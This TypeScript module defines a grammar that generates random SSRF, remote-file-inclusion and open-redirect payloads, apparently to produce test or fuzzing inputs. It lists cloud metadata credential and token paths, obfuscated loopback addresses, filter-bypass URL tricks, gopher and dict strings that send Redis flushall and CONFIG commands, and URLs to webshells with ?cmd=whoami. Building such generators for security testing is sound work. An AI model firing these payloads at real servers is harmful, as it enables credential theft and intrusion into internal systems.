/** Server-side request forgery and open redirects: addresses that a server should not be sent to. */

import { grammar, lines, words } from "../lib/grammar.ts";
import { LEXICON } from "../lib/lexicon.ts";
import type { Random } from "../lib/random.ts";
import { spelledAddress } from "./addresses.ts";

const RULES = grammar({
  ...LEXICON,
  ssrf: [
    ["«metadata»", 10],
    ["«internal»", 8],
    ["«protocol»", 6],
    ["«trick»", 4],
    ["«callback»", 5],
    ["«spelled»", 12],
    ["«named»", 7],
  ],
  /** Addresses in spellings that a filter of dotted quads lets pass. */
  odd: (rng) => spelledAddress(rng),
  scheme2: words`
    http https ftp ftps tftp sftp scp rtmp rtmps rtsp ldap ldaps imap imaps smb smbs smtp smtps pop3 pop3s telnet jar netdoc gopher gophers dict file ws wss ssh2 ogg
    svn svn+ssh git nfs afp mms rsync redis amqp mqtt mongodb mysql postgres jdbc rmi jndi dns urn view-source feed xmpp sip ssh HTTP Http FTP`,
  cred: ["«»", "«»", "«»", "«rnd»@", "«rnd»:«rnd»@", "«host»@", "admin:«rnd»@", ":@", "«rnd»%40", "«int»@"],
  sport: ["«»", "«»", "«»", ":«iport»", ":«iport»", ":80", ":0«iport»", ":"],
  spath: [
    "«»",
    "«»",
    "/",
    "/",
    "/«rnd»",
    "/«rnd».«ext»",
    "/«rnd»/«rnd»",
    "/?«rnd2»=«rnd»",
    "/«rnd»?«rnd2»=«int»",
    "/#«rnd»",
    "#«rnd»",
    "?«rnd»",
    "/latest/meta-data/",
    "/admin",
    "/..",
    "/%2e%2e/«rnd»",
    "/.",
    "//",
    "/;«rnd»",
    "#@«host»/",
    "/«rnd»#.«host»",
    "\\\\@«host»",
  ],
  spelled: lines`
    «h»«odd»«sport»«spath»
    «h»«odd»«sport»«spath»
    «h»«odd»«sport»«spath»
    «h»«cred»«odd»«sport»«spath»
    «scheme2»://«odd»«sport»«spath»
    «scheme2»://«odd»«sport»«spath»
    «scheme2»://«cred»«odd»«sport»«spath»
    «scheme2»:«odd»«spath»
    «scheme2»:/«odd»«spath»
    «scheme2»:«bs»«bs»«odd»«spath»
    «odd»:«iport»«spath»
    «odd»/«rnd»
    «odd»«sport»«spath»
    jar:«scheme2»://«odd»«sport»«spath»!/
    url:«scheme2»://«odd»«spath»
    «h»«host»@«odd»«sport»
    «h»«odd»%23«host»
    «h»«odd».«host»«|/«rnd»»
    «h»«host»/«redirect.php|r|302|go|out|link»?«u|url|to|next»=«h»«odd»«sport»«spath»`,
  localname: [
    "ip6-localhost",
    "«host|gateway|kubernetes».docker.internal",
    "host.«containers|minikube|lima».internal",
    "ip6-loopback",
    "ip6-localnet",
    "ip6-mcastprefix",
    "ip6-allnodes",
    "ip6-allrouters",
    "localhost.localdomain",
    "localhost",
    "localhost6",
    "localhost6.localdomain6",
    "localhost4",
    "localhost4.localdomain4",
    "localdomain",
    "broadcasthost",
    "loopback",
    "host.docker.internal",
    "gateway.docker.internal",
    "docker.for.mac.localhost",
    "docker.for.mac.host.internal",
    "docker.for.win.localhost",
    "kubernetes.docker.internal",
    "host.containers.internal",
    "host.minikube.internal",
    "host.lima.internal",
    "host.rancher-desktop.internal",
    "kubernetes",
    "kubernetes.default",
    "kubernetes.default.svc",
    "kubernetes.default.svc.cluster.local",
    "«rnd».«default|kube-system|«rnd»».svc.cluster.local",
    "«rnd».«rnd».svc",
    "metadata.google.internal",
    "metadata.goog",
    "metadata",
    "metadata.azure.internal",
    "metadata.tencentyun.com",
    "metadata.platformequinix.com",
    "metadata.packet.net",
    "metadata.oraclecloud.com",
    "metadata.hetzner.cloud",
    "metadata.ibm.com",
    "instance-data",
    "instance-data.ec2.internal",
    "ip-10-«octet»-«octet»-«octet».«ec2|us-west-2.compute».internal",
    "«rnd».internal",
    "«noun».internal",
    "«rnd».local",
    "«noun».localdomain",
    "«rnd».lan",
    "«rnd».home.arpa",
    "«rnd».intranet",
    "«rnd».consul",
    "«rnd».service.consul",
    "wpad",
    "isatap",
    "rancher-metadata",
    "localhost.",
    "LOCALHOST",
    "LocalHost",
    "lOcAlHoSt",
    "127-0-0-1.nip.io",
    "«rnd».localhost",
    "localhost.«rnd».«tld»",
    "alibaba.zaproxy.org",
    "«loop»",
    "169.254.170.2",
    "169.254.170.23",
    "100.100.100.200",
    "192.0.0.192",
    "168.63.129.16",
    "169.254.0.23",
    "169.254.42.42",
    "fd00:ec2::254",
    "[fd20:ce::254]",
    "[fe80::a9fe:a9fe%25eth0]",
  ],
  named: lines`
    «h»«localname»«sport»«spath»
    «h»«localname»«sport»«spath»
    «h»«localname»/«metapath»
    «h»«cred»«localname»«sport»«spath»
    «scheme2»://«localname»«sport»«spath»
    «scheme2»://«cred»«localname»«sport»«spath»
    «scheme2»://«localname»«sport»«spath»
    «localname»:«iport»
    «localname»:«iport»«spath»
    «localname»/«metapath»
    //«localname»«sport»«spath»
    «scheme2»:«localname»«sport»
    jar:«scheme2»://«localname»«sport»/«rnd»!/«rnd»
    netdoc://«unixfile»
    «scheme2»://«loop»«sport»«spath»`,
  metapath: lines`
    latest/meta-data/«ami-id|instance-id|iam/info|iam/security-credentials/|mac|security-groups|tags/instance|reservation-id|kernel-id|placement/availability-zone»
    latest/«user-data|api/token|dynamic/instance-identity/«document|pkcs7|signature»»
    computeMetadata/v1«|beta1»/«instance|project»/«|attributes/|service-accounts/|id|zone|tags?alt=json|ssh-keys|hostname»
    metadata/«instance|identity/oauth2/token|attested/document|scheduledevents»?api-version=20«int»
    metadata/v1«.json|/id|/hostname|/region|/interfaces/public/0/ipv4/address|/user-data»
    opc/v«1|2»/«instance|vnics|identity»/
    openstack/«latest|2012-08-10»/«meta_data.json|user_data|vendor_data.json|network_data.json»
    hetzner/v1/«metadata|userdata»
    latest/meta-data/ram/security-credentials/«rnd»
    «v1|v2|v3|v4»/«credentials|metadata|task|instances»
    instance_identity/v1/token?version=«int4»-01-01
    conf?format=json
    user_data
    20«int»-01-01/«meta-data|user-data|dynamic»
    api/v1/«namespaces|pods|secrets|nodes»
    machine/?comp=goalstate`,
  h: [
    "http://",
    "http://",
    "http://",
    "https://",
    "//",
    "HTTP://",
    "http:\\\\",
    "http:/",
    "http:",
    "hTTp://",
    "",
    "url:http://",
    "http:///",
  ],
  metadata: lines`
    «h»«meta»/
    «h»«meta»/latest/«meta-data|user-data|dynamic/instance-identity/document|api/token|meta-data/iam/security-credentials»/«|«rnd»»
    «h»«meta»/latest/meta-data/«iam/security-credentials/«rnd»|public-keys/0/openssh-key|hostname|local-ipv4|public-hostname|identity-credentials/ec2/security-credentials/ec2-instance|network/interfaces/macs|placement/region|ami-id»
    «h»«169.254.169.254|metadata.google.internal|metadata»/computeMetadata/«v1|v1beta1»/«|project/project-id|instance/service-accounts/default/token|instance/attributes/kube-env?alt=json|instance/hostname|instance/disks/?recursive=true»
    «h»«meta»/metadata/«instance?api-version=2021-02-01|identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/|v1.json|v1/maintenance|v1/user-data»
    «h»169.254.170.2/«v2/credentials/«rnd»|v2/metadata|v3/task»
    «h»«192.0.0.192|100.100.100.200|169.254.169.254»/«latest/meta-data/instance-id|opc/v1/instance|openstack/latest/meta_data.json|hetzner/v1/metadata|1.0/meta-data|latest/attributes»
    «h»rancher-metadata/«latest|2015-12-19»/
    «h»«meta»:80/«latest|metadata»
    «h»«kubernetes.default.svc|kubernetes|10.96.0.1»/api/v1/namespaces/«default|kube-system»/secrets
    «h»127.0.0.1:«2379/v2/keys/?recursive=true|2375/v1.24/containers/json|10255/pods|8500/v1/agent/self|9200/_cat/indices|10250/runningpods/»`,
  meta: [
    "169.254.169.254",
    "169.254.169.254",
    "169.254.169.254",
    "metadata.google.internal",
    "metadata",
    "2852039166",
    "0xA9FEA9FE",
    "0xa9.0xfe.0xa9.0xfe",
    "025177524776",
    "0251.0376.0251.0376",
    "0251.254.169.254",
    "[::ffff:a9fe:a9fe]",
    "[::ffff:169.254.169.254]",
    "[fd00:ec2::254]",
    "169.254.169.254.«nip.io|xip.io|sslip.io»",
    "instance-data",
    "169.254.43518",
    "169.16689662",
    "①⑥⑨.②⑤④.①⑥⑨.②⑤④",
    "425.510.425.510",
    "7147006462",
    "0x41414141A9FEA9FE",
    "1ynrnhl.xip.io",
    "www.owasp.org.1ynrnhl.xip.io",
    "169.254.169.254%23@«host»",
    "«rnd»@169.254.169.254",
    "metadata.nicob.net",
  ],
  loop: [
    "127.0.0.1",
    "127.0.0.1",
    "localhost",
    "localhost",
    "0.0.0.0",
    "0",
    "127.1",
    "127.0.1",
    "2130706433",
    "0x7f000001",
    "0x7f.0.0.1",
    "0x7F.0x00.0x00.0x01",
    "017700000001",
    "0177.0.0.1",
    "0177.0000.0000.0001",
    "127.«octet».«octet».«octet»",
    "[::1]",
    "[::]",
    "[0:0:0:0:0:0:0:1]",
    "[::ffff:127.0.0.1]",
    "[0:0:0:0:0:ffff:127.0.0.1]",
    "[::ffff:7f00:1]",
    "localtest.me",
    "127.0.0.1.nip.io",
    "lvh.me",
    "vcap.me",
    "«rnd».127.0.0.1.«nip.io|sslip.io»",
    "spoofed.burpcollaborator.net",
    "①②⑦.⓪.⓪.①",
    "ⓛⓞⓒⓐⓛⓗⓞⓢⓣ",
    "LOCALHOST",
    "localhost.localdomain",
    "ip6-localhost",
    "127.000.000.1",
    "127。0。0。1",
    "127%2E0%2E0%2E1",
    "«privip»",
    "«privip»",
    "«decimal»",
    "7f000001.«hex8».rbndr.us",
    "make-127-0-0-1-rr.1u.ms",
    "2130706433.",
    "customer1.app.localhost.my.company.127.0.0.1.nip.io",
    "host.docker.internal",
    "«intranet»",
  ],
  intranet: [
    "intranet",
    "internal",
    "admin.internal",
    "jenkins.local",
    "redis",
    "elasticsearch",
    "consul",
    "db",
    "backend",
    "vault",
    "gitlab.«rnd».local",
    "mongo",
    "grafana",
    "«rnd».corp",
    "«rnd».internal",
    "router",
    "kubernetes.default",
  ],
  octet: (rng) => String(rng.int(0, 255)),
  decimal: (rng) =>
    String(
      rng.pick([2130706433, 3232235521 + rng.int(0, 60000), 167772161 + rng.int(0, 1_000_000), 2886729729]),
    ),
  iport: [
    "22",
    "21",
    "25",
    "3306",
    "5432",
    "6379",
    "11211",
    "27017",
    "9200",
    "8080",
    "8500",
    "2375",
    "2379",
    "10250",
    "5984",
    "8983",
    "9000",
    "8443",
    "3000",
    "5601",
    "15672",
    "8888",
    "«port»",
    "445",
    "53",
    "110",
    "1433",
    "5000",
    "8000",
    "8081",
    "9090",
    "80",
  ],
  internal: lines`
    «h»«loop»
    «h»«loop»/
    «h»«loop»:«iport»
    «h»«loop»:«iport»/
    «h»«loop»:«iport»/«admin|«rnd»|server-status|manager/html|_cat/indices|actuator/env|v1/agent/self|containers/json|latest/meta-data|solr/admin/cores|flag|index.php|status|api/v1/pods|console|nginx_status|phpmyadmin|elmah.axd»
    «h»«loop»/«admin|«rnd»|server-status|phpmyadmin|.env|.git/config|wp-admin|internal|secret|private»
    «h»«rnd»:«rnd»@«loop»:«iport»/
    «h»«loop»«:«iport»|»/«rnd».php?«rnd2»=«int»`,
  protocol: lines`
    gopher://«loop»:«iport»/_«gopher»
    gopher://«loop»:«iport»/_«gopher»
    gopher://«host»:«port»/_«rnd»
    dict://«loop»:«iport»/«info|stat|«rnd»|CONFIG:SET:dir:/tmp|d:«rnd»|flushall»
    dict://«rnd»;«rnd»@«loop»:«iport»/d:«rnd»:«rnd»:«small»
    ldap«s|»://«loop»:«port»/«%0astats%0aquit|«rnd»|»
    sftp://«host»:«port»/
    tftp://«host»:«port»/«rnd»
    ftp://«rnd»:«rnd»@«loop»:«port»/«rnd».«ext»
    smb://«host»/«rnd»
    \\«host»\«rnd»
    file://«unixfile»
    file://«unixfile»
    file:///«letter»:/«winfile»
    file://«loop»«unixfile»
    file://\/\/«unixfile»
    netdoc://«unixfile»
    jar:«h»«loop»:«iport»/«rnd».jar!/
    jar:file://«unixfile»!/
    mailto:«email»
    rtsp://«loop»:«iport»/«rnd»
    imap://«loop»:143/
    telnet://«loop»:«iport»
    ssh://«rnd»@«loop»
    redis://«loop»:6379/«digit»
    mysql://«rnd»:«rnd»@«loop»:3306/«rnd»
    phar://«unixfile»
    unix:///var/run/docker.sock
    view-source:«h»«loop»
    feed:«h»«loop»
    svn://«host»/«rnd»
    rmi://«host»:1099/«rnd»
    cifs://«host»/«rnd»
    local_file://«unixfile»
    chrome://«rnd»
    res://«unixfile»`,
  gopher: [
    "*1%0d%0a$8%0d%0aflushall%0d%0a",
    "%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
    "INFO%0d%0a",
    "SET%20«rnd»%20«rnd»",
    "MAIL%20FROM:<«email»>%0d%0aRCPT%20TO:<«email»>",
    "%01%01%00%01%00%08%00%01%00%00%00%00%00%00",
    "POST%20/«rnd»%20HTTP/1.1%0d%0aHost:%20«loop»",
    "GET%20/«rnd»",
    "EHLO%20«rnd»",
    "%a3%00%00%01%85%a6%ff%01%00%00%00%01",
  ],
  trick: lines`
    «h»«host»@«loop»«/|»
    «h»«loop»@«host»«/|»
    «h»«host»#@«loop»/
    «h»«loop»#«host»
    «h»«host»%23@«loop»
    «h»«loop»%23.«host»
    «h»«rnd»:«rnd»@«loop»
    «h»«loop»\@«host»
    «h»«host»\@«loop»
    «h»«loop»%00.«host»
    «h»«loop»%2f@«host»
    «h»«loop»?@«host»
    «h»«loop»;@«host»
    «h»«loop»:80:«iport»
    «h»«loop»:«iport»@«host»/
    «h»«host» «loop»
    «h»«loop»%09
    0://«host»:«port»;«host»:80/
    «h»«loop»%0d%0a«rnd»:%20«rnd»
    «h»«host»/redirect.php?url=«h»«loop»
    «h»«host»/302?u=«h»«meta»
    «h»1.1.1.1 &@2.2.2.2# @3.3.3.3/
    «h»«rnd».«loop»/`,
  callback: lines`
    «h»«rndmix».«oastword»/
    «h»«rndmix».«oastword»/«rnd»
    «h»«rndmix».«oastword»/?«rnd»=«rnd»
    «h»«rnd».«rndmix».«oastword»
    «rndmix».«oastword»
    «h»«rndmix».«oastword»/«rnd».«txt|php|png|gif|xml»
    «h»«evilword».«tld»/«rnd»
    «h»«ip»:«port»/«rnd».«txt|php|js|sh|exe|bin|war|jar|dtd|svg»`,
  /** Remote file inclusion: script sources on a foreign server. */
  rfi: lines`
    «h»«host»/«rnd».«txt|php|gif|jpg|png|inc|phtml»«rfimark»
    «h»«host»/«rnd».«txt|php|gif|jpg|png|inc|phtml»«rfimark»
    «h»«ip»/«rnd».«txt|php|gif|jpg»«rfiend»
    «h»«host»/«shell|c99|r57|cmd|evil|id|idx|test|echo|c|x|1|inc|info|rfi|rfiinc»«|«small»».«txt|php|gif|jpg»«rfiend»
    «h»«ip»:«port»/«rnd».«txt|php»«rfiend»
    «scheme2»://«cred»«odd»/«rnd».«php|txt|inc»«rfiend»
    «scheme2»://«host»/«rnd».«php|txt|inc|gif»«rfiend»
    ftp://«rnd»:«rnd»@«host»/«rnd».«txt|php»«rfiend»
    ftp://«host»/«rnd».«php|txt»«rfiend»
    \\«host»\«rnd»\«rnd».«php|asp|txt»
    «h»«host»/~«rnd»/«rnd».txt«rfiend»
    «h»cirt.net/rfiinc.txt«rfiend»
    «h»«host»/«images|upload|tmp|.«rnd»»/«rnd».«txt|jpg»«rfimark»
    «h»raw.githubusercontent.com/«rnd»/«rnd»/master/«rnd».«php|txt»
    «h»pastebin.com/raw/«rndmix»«rfiend»
    «h»«ip»/«rnd».php?«cmd|c|x|exec»=«id|ls|whoami|uname -a»
    «h»«host»/«rnd».«txt|php»%00
    data:«text/plain|text/html|application/x-php|»«;base64|»,«base64»
    srb2://«host»/«rnd»
    «h»«host»/«rnd»?`,
  rfimark: [
    "?",
    "?",
    "??",
    "%00",
    "%3f",
    "?cmd=«id|ls|whoami»",
    "?&",
    "?.php",
    "\u0000",
    "%00.html",
    "?«rnd2»=«unixfile»",
  ],
  rfiend: [
    "?",
    "?",
    "?",
    "??",
    "%00",
    "%3f",
    "?cmd=«id|ls»",
    "«»",
    "«»",
    "«»",
    "?&",
    "#",
    "?.php",
    "?«rnd2»=",
    "\u0000",
  ],
  /** Open redirect: the victim is to be sent there. */
  evilhost: [
    "«evilword».«tld»",
    "«evilword»-«rnd».«tld»",
    "«rndmix».«oastword»",
    "«ip»",
    "google.com",
    "www.«evilword».«tld»",
  ],
  redirect: lines`
    //«evilhost»
    //«evilhost»/
    //«evilhost»/«rnd»
    ///«host»
    ////«host»
    /////«host»/
    /\«host»
    \/«host»
    \\«host»
    \/\/«host»/
    /\/«host»
    //\«host»
    /%09/«host»
    /%5c«host»
    //%5c«host»
    /%2f«host»
    /%2f%2f«host»
    %2f%2f«host»
    /.«host»
    /«host»/..;/
    //«host»/%2f..
    //«host»/%2e%2e
    //«host»%2f%2e%2e
    ///«host»/%2f%2e%2e
    //«host»/..;/css
    https:«host»
    https:/«host»
    http:\\«host»
    https:\/\/«host»
    http:///«host»
    hTTps://«host»
    https://example.com@«host»
    https://example.com%40«host»
    https://example.com%2e«host»
    https://example.com.«host»/
    //example.com@«host»/
    @«host»
    .«host»
    //google%E3%80%82com
    //«rnd»%00.com
    //www.«host»
    https://«host»#example.com
    https://«host»\.example.com
    http://«ip»
    //«decimal»
    http://0x«hex8»/
    /redirect?url=//«host»
    javascript://«host»/%0aalert(«int»)
    javascript:alert(«int»)
    data:text/html;base64,«base64»
    ////%5c%5c«host»
    〱«host»
    〵«host»
    //;@«host»
    http://;@«host»
    %01https://«host»
    %0a//«host»
    %0d%0a//«host»
    //«host»/%2E%2E%2F
    //%0a«host»
    /〱«host»
    <>//«host»
    //«host»?example.com`,
});

/** An address that forges a request of the server. */
export const ssrf = (rng: Random) => RULES(rng, "ssrf");
/** Remote file inclusion. */
export const rfi = (rng: Random) => RULES(rng, "rfi");
/** Open redirect. */
export const redirect = (rng: Random) => RULES(rng, "redirect");
